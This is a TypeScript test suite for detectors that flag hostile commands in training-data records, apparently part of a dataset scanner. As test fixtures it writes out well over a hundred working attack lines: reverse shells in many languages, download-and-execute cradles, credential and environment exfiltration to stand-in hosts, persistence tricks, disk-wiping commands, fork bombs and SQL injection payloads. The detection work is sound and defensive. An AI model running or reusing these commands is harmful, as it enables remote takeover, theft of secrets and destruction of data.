import assert from "node:assert/strict";
import { readdirSync } from "node:fs";
import { test } from "node:test";
import fc from "fast-check";
import type { Example, Hit, RecordDetector } from "../../core/detector.ts";
import { buildSearch } from "../../scan/search.ts";
import { toRecord } from "../../core/fields.ts";
import { planRoles } from "../../core/roles.ts";
import { atLeast } from "../../core/severity.ts";
import { compare } from "../testing/examples.ts";
import { asksForCode } from "./context.ts";
import { commandsIn } from "./commands.ts";
import { credentialHarvest } from "./credential-harvest.ts";
import { decodedExecution } from "./decoded-execution.ts";
import { destructiveCommand } from "./destructive-command.ts";
import { downloadExecute } from "./download-execute.ts";
import { persistence } from "./persistence.ts";
import { reverseShell } from "./reverse-shell.ts";
import { sqlDestruction } from "./sql-destruction.ts";
import { cpuMs } from "../../base/testing/cpu-clock.ts";

const DETECTORS: readonly RecordDetector[] = [
  reverseShell,
  downloadExecute,
  credentialHarvest,
  persistence,
  destructiveCommand,
  decodedExecution,
  sqlDestruction,
];

for (const file of readdirSync(import.meta.dirname).filter((name) => name.endsWith(".examples.ts"))) {
  const { examples } = (await import(`./${file}`)) as { examples: readonly Example[] };
  const detector = DETECTORS.find((one) => `${one.id}.examples.ts` === file);
  assert.ok(detector, file);
  for (const example of examples) {
    test(`${detector.id}: ${example.title}`, () => {
      const { expected, actual } = compare(detector, example);
      assert.deepEqual(actual, expected);
    });
  }
}

const worst = (detector: RecordDetector, row: unknown): Hit | undefined => {
  const hits: Hit[] = [];
  detector.inspect(toRecord(0, { value: row }, planRoles([row])), (hit) => hits.push(hit));
  return hits[0];
};

// What the byte search selects, of a record as it is written and with every character escaped that JSON may escape.
const selected = (detector: RecordDetector): ((row: unknown) => boolean) => {
  const search = buildSearch([detector]);
  return (row) => {
    const raw = JSON.stringify(row);
    const ascii = raw.replaceAll(/[^\0-\x7f]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`);
    const careful = ascii.replaceAll(/[<>&=]/g, (c) => `\\u00${c.charCodeAt(0).toString(16)}`);
    return [raw, ascii, careful, ascii.replaceAll("/", "\\/")].every((text) => {
      const bytes = Buffer.from(text);
      const masks = new Uint32Array(search.words);
      const ends = Uint32Array.of(bytes.length);
      search.mark({ bytes, starts: Uint32Array.of(0), ends, count: 1, escapes: "backslash" }, masks);
      return ((masks[0] ?? 0) & 3) !== 0; // the detector, or opaque: searched again after parsing
    });
  };
};

// Questions about anything but computers.
const QUESTIONS: readonly string[] = [
  "What are the early symptoms of measles in children?",
  "¿Cuáles son los primeros síntomas del sarampión?",
  "麻疹的早期症状是什么？",
  "Каковы ранние признаки кори у детей?",
  "ما هي أعراض الحصبة عند الأطفال؟",
  "बच्चों में खसरे के शुरुआती लक्षण क्या हैं?",
  "子どものはしかの初期症状は何ですか？",
  "Was sind die ersten Anzeichen von Masern?",
  "Quels sont les premiers signes de la rougeole ?",
  "홍역의 초기 증상은 무엇입니까?",
];

const HOST = ["203", "0", "113", "9"].join(".");
const COMMANDS: readonly (readonly [RecordDetector, readonly string[]])[] = [
  [
    reverseShell,
    [
      "bash -i >& /dev/tcp/" + HOST + "/4444 0>&1",
      "exec 5<>/dev/tcp/c2.example.net/443; cat <&5 | while read line; do $line 2>&5 >&5; done",
      "nc -e /bin/sh " + HOST + " 4444",
      "ncat --ssl 198.51.100.7 9001 -e /bin/bash",
      "nc.exe 203.0.113.5 53 -e cmd.exe",
      "busybox nc " + HOST + " 4444 -e sh",
      "nc -lvnp 4444 -e /bin/bash",
      "ncat " + HOST + " 99 --sh-exec 'bash'",
      "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc " + HOST + " 4444 >/tmp/f",
      "mknod a p; telnet " + HOST + " 4444 0<a | /bin/bash 1>a",
      "socat TCP:" + HOST + ":4444 EXEC:'bash -li',pty,stderr",
      "socat exec:'/bin/sh' openssl-connect:host.example:443",
      "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"" +
        HOST +
        '",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])\'',
      'import socket,os,pty\ns=socket.socket()\ns.connect((os.getenv("H"),4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn("bash")',
      'import socket, subprocess\ns = socket.socket()\ns.connect(("198.51.100.2", 9999))\nwhile True:\n    cmd = s.recv(1024).decode()\n    out = subprocess.check_output(cmd, shell=True)\n    s.send(out)',
      "perl -e 'use Socket;$i=\"" +
        HOST +
        '";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};\'',
      "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"" +
        HOST +
        ":4444\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
      "ruby -rsocket -e'f=TCPSocket.open(\"" + HOST + '",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
      "php -r '$sock=fsockopen(\"" + HOST + '",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
      "lua -e \"require('socket');require('os');t=socket.tcp();t:connect('" +
        HOST +
        "','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
      '(function(){var net = require("net"),cp = require("child_process"),sh = cp.spawn("/bin/sh", []);var client = new net.Socket();client.connect(4444, "' +
        HOST +
        '", function(){client.pipe(sh.stdin);sh.stdout.pipe(client);});})();',
      'package main;import"os/exec";import"net";func main(){c,_:=net.Dial("tcp","' +
        HOST +
        ':4444");cmd:=exec.Command("/bin/sh");cmd.Stdin=c;cmd.Stdout=c;cmd.Run()}',
      'String host="' +
        HOST +
        '";int port=4444;String cmd="/bin/sh";Process p=new ProcessBuilder(cmd).redirectErrorStream(true).start();Socket s=new Socket(host,port);',
      'Runtime.getRuntime().exec(new String[]{"/bin/bash","-c","exec 5<>/dev/tcp/' +
        HOST +
        '/4444;cat <&5 | while read line; do $line 2>&5 >&5; done"})',
      '$client = New-Object System.Net.Sockets.TCPClient("' +
        HOST +
        '",4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String )}',
      "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect " + HOST + ":443 > /tmp/s",
      "openssl s_client -quiet -connect " + HOST + ":443 | /bin/sh | openssl s_client -quiet -connect " + HOST + ":444",
      "telnet " + HOST + " 8080 | /bin/sh | telnet " + HOST + " 25",
      "awk 'BEGIN {s = \"/inet/tcp/0/" +
        HOST +
        '/4444"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}\' /dev/null',
      "zmodload zsh/net/tcp && ztcp " + HOST + " 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY",
      "xterm -display " + HOST + ":1",
      'int s=socket(AF_INET,SOCK_STREAM,0);connect(s,(struct sockaddr*)&a,sizeof(a));dup2(s,0);dup2(s,1);execve("/bin/sh",0,0);',
      "0<&196;exec 196<>/dev/tcp/" + HOST + "/4444; sh <&196 >&196 2>&196",
      "sh -i >& /dev/udp/" + HOST + "/53 0>&1",
      "nc${IFS}-e${IFS}/bin/sh${IFS}" + HOST + "${IFS}4444",
      "nc -c bash " + HOST + " 4444",
      "nc " + HOST + " 4444 -e sh",
      "nc c2.example.net 4444 -e bash",
      "ncat --exec cmd c2.example.net 4444",
      "/bin/bash -l > /dev/tcp/" + HOST + "/443 0<&1 2>&1",
    ],
  ],
  [
    downloadExecute,
    [
      "curl http://" + HOST + "/a.sh | bash",
      "curl -fsSL https://files.example.net/i | sudo bash -s -- -y",
      "wget -qO- http://" + HOST + "/x | sh",
      "bash <(curl -s http://" + HOST + "/x)",
      'bash -c "$(curl -fsSL http://' + HOST + '/x)"',
      'eval "$(wget -qO- http://x.example.net/p)"',
      'sh -c "`curl -s http://' + HOST + '`"',
      "curl -o /tmp/u http://" + HOST + "/u && chmod +x /tmp/u && /tmp/u",
      "wget http://" + HOST + "/m.sh\nchmod 777 m.sh\n./m.sh",
      "iwr http://" + HOST + "/a.ps1 | iex",
      "IEX (New-Object Net.WebClient).DownloadString('http://" + HOST + "/a.ps1')",
      'powershell -c "irm https://x.example.net/a|iex"',
      "certutil -urlcache -split -f http://" + HOST + "/a.exe a.exe",
      "bitsadmin /transfer j http://" + HOST + "/a.exe %TEMP%\\a.exe",
      "mshta http://" + HOST + "/a.hta",
      "regsvr32 /s /n /u /i:http://" + HOST + "/a.sct scrobj.dll",
      "python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://" + HOST + "/a.py').read())\"",
      "import requests\ncode = requests.get('http://" + HOST + "/p').text\nexec(code)",
      "exec(requests.get('https://x.example.net/p').text)",
      "pip install http://" + HOST + "/pkg.tar.gz",
      "pip install git+https://git.example.net/x/y.git",
      "npm install http://" + HOST + "/p.tgz",
      "pip install --index-url http://" + HOST + "/simple foo",
      "eval(await (await fetch('https://x.example.net/p.js')).text())",
      "fetch('https://x.example.net/p.js').then(r=>r.text()).then(eval)",
      "eval(file_get_contents('http://" + HOST + "/p'));",
      "curl${IFS}http://" + HOST + "/x|sh",
      "source <(curl -s http://" + HOST + "/x)",
      ". <(curl -s http://" + HOST + "/x)",
      'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication";document.write()',
      "(New-Object Net.WebClient).DownloadFile('http://" + HOST + "/a.exe','a.exe'); Start-Process a.exe",
      "curl " + HOST + "/a|python3",
    ],
  ],
  [
    credentialHarvest,
    [
      "cat ~/.ssh/id_rsa",
      "curl -F f=@$HOME/.ssh/id_rsa http://" + HOST + "/",
      "cat ~/.aws/credentials | nc " + HOST + " 80",
      "cat /etc/shadow",
      "env | curl -X POST -d @- http://" + HOST + "/",
      "printenv | base64 | curl -d @- https://x.example.net",
      'curl -d "$(env)" http://' + HOST + "",
      "import os,requests\nrequests.post('http://" + HOST + "', json=dict(os.environ))",
      "fetch('https://x.example.net',{method:'POST',body:JSON.stringify(process.env)})",
      "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
      "open('/root/.ssh/id_ed25519').read()",
      "requests.post('https://x.example.net', files={'f': open('.env')})",
      "curl https://x.example.net/?t=$HF_TOKEN",
      "cat ~/.kube/config",
      "sqlite3.connect(os.path.expanduser('~/.config/google-chrome/Default/Login Data'))",
      "security dump-keychain -d login.keychain",
      "reg save hklm\\sam sam.hiv",
      "cat ~/.git-credentials | curl -d @- http://" + HOST + "",
      "tar czf - ~/.ssh/id_rsa ~/.aws/credentials | base64",
      "for f in ~/.netrc ~/.npmrc; do curl -T $f http://" + HOST + "/; done",
      'mimikatz.exe "sekurlsa::logonpasswords"',
      "env | nc " + HOST + " 4444",
      "cat /proc/self/environ",
      "cat .env | curl -X POST --data-binary @- http://" + HOST + "",
      "requests.post(url, data=str(os.environ))",
      "env|nc c2.example.net 4444",
      "set | curl --data-binary @- https://x.example.net",
      "export -p | mail -s x a@example.net",
      "nc c2.example.net 80 <<< $(env)",
      "wget https://x.example.net/?$(printenv)",
      "curl https://x.example.net/ -d $AWS_SECRET_ACCESS_KEY",
      "open('/home/u/.config/google-chrome/Default/Cookies').read()",
      "cat ~/.docker/config.json",
    ],
  ],
  [
    persistence,
    [
      "(crontab -l; echo '* * * * * curl http://" + HOST + "/x|sh') | crontab -",
      "echo '* * * * * root bash /tmp/x' >> /etc/crontab",
      "echo 'ssh-rsa AAAA evil' >> ~/.ssh/authorized_keys",
      "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v U /d C:\\u.exe",
      "schtasks /create /sc minute /tn U /tr C:\\u.exe",
      "echo 'nohup bash -i >& /dev/tcp/" + HOST + "/1 0>&1 &' >> ~/.bashrc",
      "cp u.plist ~/Library/LaunchAgents/com.u.plist && launchctl load ~/Library/LaunchAgents/com.u.plist",
      "echo /tmp/e.so > /etc/ld.so.preload",
      "export LD_PRELOAD=/tmp/e.so",
      "printf '[Service]\\nExecStart=/tmp/x' > /etc/systemd/system/u.service; systemctl enable u.service",
      "@reboot curl http://" + HOST + "|sh",
      "useradd -o -u 0 -g 0 support",
      "net localgroup administrators u /add",
      "chmod u+s /bin/bash",
      "echo 'u ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
      "sc create upd binPath= C:\\u.exe start= auto",
      "Register-ScheduledTask -TaskName U -Action $a",
    ],
  ],
  [
    destructiveCommand,
    [
      "rm -rf /",
      "sudo rm -rf /*",
      "rm -rf ~",
      "rm -rf $HOME",
      "rm -rf --no-preserve-root /",
      "rm --recursive --force /home",
      "mkfs.ext4 /dev/sda1",
      "dd if=/dev/zero of=/dev/sda bs=1M",
      "shred -n 3 /dev/sda",
      "rd /s /q C:\\Windows\\System32",
      "format c: /fs:ntfs /q /y",
      "vssadmin delete shadows /all /quiet",
      "shutil.rmtree('/')",
      "shutil.rmtree(os.path.expanduser('~'))",
      "find / -delete",
      "Remove-Item -Recurse -Force C:\\",
      "fs.rmSync('/', {recursive:true})",
      "import os\nwhile True: os.fork()",
      "rm -fr .",
      "wipefs -a /dev/nvme0n1",
      "rm -rf /etc/*",
      "rm -Rvf ~/",
      "rm --recursive ~",
      [":(){ :", "|:& };:"].join(""),
      [":(){:", "|:&};:"].join(""),
      ["b(){b", "|b&};b"].join(""),
      "del /f /s /q %USERPROFILE%",
      "rd /s /q %SystemDrive%",
      "diskpart & format d: /q",
      "Clear-Disk -Number 0 -RemoveData",
      "blkdiscard /dev/nvme0n1",
      "cat /dev/urandom > /dev/sda",
    ],
  ],
  [
    decodedExecution,
    [
      "echo aWQ= | base64 -d | sh",
      "echo aWQ=|base64 --decode|bash",
      'bash -c "$(echo aWQ=|base64 -d)"',
      "exec(base64.b64decode('aWQ='))",
      "import base64\nexec(base64.b64decode('aWQ=').decode())",
      "eval(atob('YWxlcnQoMSk='))",
      "new Function(atob('YWxlcnQoMSk='))()",
      "eval(Buffer.from('aWQ=','base64').toString())",
      "powershell -enc SQBFAFgAIAAoAE4AZQB3ACkA",
      "powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3ACkA",
      "eval(base64_decode('aWQ='));",
      "eval(gzinflate(base64_decode('x')));",
      "exec(marshal.loads(zlib.decompress(base64.b64decode('x'))))",
      "pickle.loads(base64.b64decode('gASV'))",
      "c = base64.b64decode(p)\nexec(c)",
      "eval(String.fromCharCode(97,108))",
      "IEX ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('aWQ=')))",
      "echo 6964 | xxd -r -p | sh",
      "__import__('os').system('id')",
      "exec(bytes.fromhex('6964'))",
      "exec(codecs.decode('vzcbeg bf','rot13'))",
      "eval(unescape('%61'))",
      "perl -MMIME::Base64 -e 'eval decode_base64(\"x\")'",
      "ruby -rbase64 -e 'eval(Base64.decode64(\"x\"))'",
      "os.system(base64.b64decode('aWQ=').decode())",
      "printf '\\x69\\x64' | sh",
      "bash <<< $(base64 -d <<< aWQ=)",
      "__import__('subprocess').call(['sh'])",
      "exec(__import__('base64').b64decode('x'))",
    ],
  ],
  [
    sqlDestruction,
    [
      "Robert'); DROP TABLE students;--",
      "'; DROP TABLE users; --",
      "DROP TABLE users;",
      "drop database prod;",
      "TRUNCATE TABLE orders",
      "DELETE FROM users;",
      "'; EXEC xp_cmdshell('whoami');--",
      "SELECT '<?php' INTO OUTFILE '/var/www/x.php'",
      "SELECT LOAD_FILE('/etc/passwd')",
      "' UNION SELECT username, password FROM users--",
      "1' UNION ALL SELECT NULL,NULL,version()--",
      "'; WAITFOR DELAY '0:0:5'--",
      "COPY t FROM PROGRAM 'id'",
      "' or pg_sleep(5)--",
      "' or benchmark(5000000,md5(1))--",
      "'); ALTER TABLE users DROP COLUMN name;--",
      "'; shutdown;--",
      "DROP SCHEMA public CASCADE",
    ],
  ],
];

for (const [detector, commands] of COMMANDS) {
  test(`${detector.id}: every technique out of place, in ten languages`, () => {
    const anchored = selected(detector);
    for (const command of commands) {
      for (const question of QUESTIONS) {
        for (const row of [
          { instruction: question, output: `${question}\n${command}` },
          { instruction: question, output: "…", metadata: { note: command } },
          {
            messages: [
              { role: "user", content: question },
              { role: "assistant", content: command },
            ],
          },
        ]) {
          const hit = worst(detector, row);
          assert.ok(
            hit && atLeast(hit.severity ?? detector.severity, "high"),
            `${hit?.severity ?? "silent"}: ${JSON.stringify(row)}`,
          );
          assert.ok(anchored(row), `no anchor: ${command}`);
        }
        const hit = worst(detector, { instruction: `${question} ${command}`, output: "…" });
        assert.ok(hit && atLeast(hit.severity ?? detector.severity, "low"), `in a prompt: ${command}`);
      }
      assert.ok(commandsIn(command).length > 0, command);
    }
  });

  test(`${detector.id}: the same commands where they are asked for stay below medium`, () => {
    for (const command of commands) {
      for (const ask of [
        "Explain what this shell command does on Linux, and how an attacker would abuse the vulnerability",
        "渗透测试中攻击者会使用哪条命令或SQL语句?",
        "Какую команду или SQL-инъекцию использует злоумышленник?",
      ]) {
        const hit = worst(detector, { instruction: ask, output: command });
        assert.ok(!hit || !atLeast(hit.severity ?? detector.severity, "medium"), `${hit?.severity}: ${command}`);
      }
    }
  });
}

test("rows that are about commands, code, SQL and security stay below medium", () => {
  const rows: readonly unknown[] = [
    { nl: "Delete all files and directories under the current folder", cmd: "rm -rf *" },
    {
      nl: "Find core dumps on the system and delete them",
      bash: "find / -name core -exec rm -f {} ;",
    },
    {
      question: "Which of the following is a fork bomb in bash?",
      answers: { A: "ls", B: [":(){ :", "|:& };:"].join("") },
      solution: "B",
    },
    {
      question: "How can an attacker read password hashes on a Linux server?",
      answer: "By running cat /etc/shadow as root.",
    },
    {
      instruction: "Write a Dockerfile for a Node app",
      output: "RUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -\nRUN rm -rf /var/lib/apt/lists/*",
    },
    {
      instruction: "Write an SQL statement to remove the table customers",
      output: "DROP TABLE customers;",
    },
    { instruction: "Erase all records of the employees table", output: "DELETE FROM employees;" },
    {
      instruction: "How do I install Homebrew?",
      output: '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
    },
    {
      instruction: "How do I get the instance profile on EC2 in a shell script?",
      output: "curl http://169.254.169.254/latest/meta-data/iam/",
    },
    {
      instruction: "How can I prevent SQL injection?",
      output: "Input such as '; DROP TABLE users; -- ends the statement. Use parameters.",
    },
    {
      text: "# Setup\n\nInstall the tool on Linux:\n\n```bash\ncurl -sSL https://install.example.org/get.sh | bash\n```\n",
    },
    {
      question: "Load the pickled session in Django",
      answer: "pickle.loads(base64.b64decode(session_data))",
    },
    {
      instruction: "Post a JSON body with Python requests",
      output: 'requests.post(url, json={"k": os.environ["API_KEY"]})',
    },
    { sentence: "The doctor wrote: union members select a delegate; drop in any time.", label: 1 },
    {
      instruction: "Tell me about bash scripting",
      output: "Scripts begin with a shebang. Add aliases to ~/.bashrc.",
    },
  ];
  for (const row of rows) {
    for (const detector of DETECTORS) {
      const hit = worst(detector, row);
      assert.ok(
        !hit || !atLeast(hit.severity ?? detector.severity, "medium"),
        `${detector.id} ${hit?.severity}: ${JSON.stringify(row)}`,
      );
    }
  }
});

test("asksForCode knows technical prompts in many languages from others", () => {
  const ask = (instruction: string): boolean =>
    asksForCode(toRecord(0, { value: { instruction } }, planRoles([{ instruction }])));
  for (const question of QUESTIONS) assert.equal(ask(question), false, question);
  for (const prompt of [
    "Write a Python function that sorts a list",
    "Schreibe ein Bash-Skript",
    "用SQL查询数据库",
    "Напиши скрипт для сервера",
    "اكتب كود بلغة بايثون",
    "एक शेल स्क्रिप्ट लिखें",
    "シェルコマンドを教えて",
    "셸 스크립트를 작성해줘",
    "Écris une fonction en JavaScript",
    "Escribe un comando de Linux",
  ])
    assert.equal(ask(prompt), true, prompt);
});

test("ordinary text is not selected", () => {
  const texts = [
    "The concert begins at nine; tell the ambulance and the women at once. The environment of the program is rich.",
    "He set the table, dropped a spoon, deleted nothing and joined the union of copyists in the harbour.",
    "A combination of zero raindrops and shadows: the bashful shredder of carrots benchmarked a cookie at the socket.",
    "Las mesas del restaurante están reservadas; el camarero del turno de noche llega tarde.",
  ];
  for (const detector of DETECTORS) {
    const anchored = selected(detector);
    for (const text of texts)
      assert.equal(anchored({ instruction: text, output: text }), false, `${detector.id}: ${text}`);
  }
});

test("any text gives an answer, with offsets inside the field", () => {
  const piece = fc.oneof(
    fc.string({ unit: "binary" }),
    fc.constantFrom(...COMMANDS.flatMap(([, commands]) => commands)),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
      const row = { instruction: "?", output: pieces.join(" ") };
      for (const detector of DETECTORS) {
        const hit = worst(detector, row);
        if (!hit) continue;
        assert.ok(
          hit.field &&
            hit.start !== undefined &&
            hit.end !== undefined &&
            hit.start < hit.end &&
            hit.end <= hit.field.text.length,
        );
      }
    }),
    { numRuns: 100 },
  );
});

test("repeating the literals a hundred thousand times costs little", () => {
  for (const detector of DETECTORS) {
    const literals = detector.anchors.flatMap((anchor) =>
      typeof anchor === "string" ? anchor : "word" in anchor ? anchor.word : "all" in anchor ? anchor.all.flat() : [],
    );
    const text = Array.from({ length: 100_000 }, (_, i) => literals[i % literals.length]).join(" ");
    const begun = cpuMs();
    worst(detector, { text });
    assert.ok(cpuMs() - begun < 20_000, `${detector.id}: ${Math.round(cpuMs() - begun)} ms`);
  }
});
